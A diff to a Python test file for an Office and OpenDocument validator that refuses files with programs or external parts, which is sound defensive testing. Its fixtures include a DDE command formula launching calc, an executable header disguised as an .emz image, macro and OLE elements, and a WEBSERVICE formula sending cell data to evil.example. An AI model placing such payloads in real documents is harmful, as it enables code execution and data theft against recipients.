@@ -1,5 +1,6 @@
 """Office files with programs or external parts are rejected; ordinary documents are accepted."""
 
+import gzip
 import io
 import zipfile
 from collections.abc import Mapping
@@ -75,7 +76,7 @@ def relation(kind: str, target: str = "https://example.com", mode: str = EXTERNA
         docx({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": docx()}),
         docx(relation("attachedTemplate", "file:///C:\\Users\\Ada\\Templates\\CV.dotx")),
         docx(relation("attachedTemplate", "file:///Users/ada/Library/Group%20Containers/CV.dotx")),
-        docx({"word/media/image1.emz": b"\x1f\x8b\x08drawing"}),
+        docx({"word/media/image1.emz": gzip.compress(b"\x01\x00\x00\x00drawing")}),
         docx(
             {
                 "word/media/image1.svg": '<!DOCTYPE svg [<!ENTITY a "b">]><svg><image href="data:image/png,x"/></svg>'
@@ -89,6 +90,10 @@ def relation(kind: str, target: str = "https://example.com", mode: str = EXTERNA
         ),
         docx({"customXml/item1.xml": '<item href="https://example.com/"/>'}),
         docx({"ppt/slides/slide1.xml": '<s><a:hlinkClick r:id="rId1"/><a:hlinkMouseOver r:id=""/></s>'}),
+        docx({"xl/worksheets/sheet1.xml": '<s><f>SUM({1,2;3,4})&amp;"a|b!"</f></s>'}),
+        docx(
+            {"word/document.xml": '<d><a:blip r:embed="rId1"/><v:imagedata r:id="rId2" o:href="cid:a"/></d>'}
+        ),
         docx({"xl/connections.xml": '<connections><connection id="1"/></connections>'}),
         archive({"mimetype": "x", "content.xml": "<office/>", "Configurations2/accelerator/current.xml": ""}),
         archive(
@@ -250,6 +255,11 @@ def test_fields_of_word_that_only_compute_are_taken(more: dict[str, bytes | str]
             {"xl/worksheets/sheet1.xml": '<s><f>_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)</f></s>'},
             Elsewhere,
         ),
+        ({"xl/worksheets/sheet1.xml": "<s><f>cmd|'/c calc'!A0</f></s>"}, Programs),
+        ({"word/document.xml": '<d><a:blip r:embed="rId1" r:link="rId2"/></d>'}, Elsewhere),
+        ({"word/document.xml": '<d><v:imagedata r:id="rId1" r:href="rId2"/></d>'}, Elsewhere),
+        ({"word/_rels/settings.xml.rels": relation("hyperlink")["word/_rels/document.xml.rels"]}, Elsewhere),
+        ({"word/media/a.emz": gzip.compress(b"MZ")}, Programs),
         ({"ppt/slides/slide1.xml": '<a:hlinkClick r:id="r" action="ppaction://program"/>'}, Programs),
         ({"ppt/slides/slide1.xml": '<a:hlinkMouseOver r:id="r"/>'}, Elsewhere),
         ({"word/vmlDrawing1.vml": '<v:fill src="http://evil.example/x.png"/>'}, Elsewhere),
@@ -308,6 +318,9 @@ def test_open_documents_that_load_from_elsewhere_are_refused(element: str, targe
         (odt('<script:event-listener script:macro-name="x"/>'), Programs),
         (odt('<text:a xlink:href="vnd.sun.star.script:x"/>'), Programs),
         (odt("<office:script/>"), Programs),
+        (odt("<text:execute-macro/>"), Programs),
+        (odt("<draw:object-ole><office:binary-data>x</office:binary-data></draw:object-ole>"), Programs),
+        (odt('<form:form form:datasource="http://evil.example/x.odb"/>'), Elsewhere),
     ],
 )
 def test_open_documents_that_start_or_fetch_otherwise_are_refused(
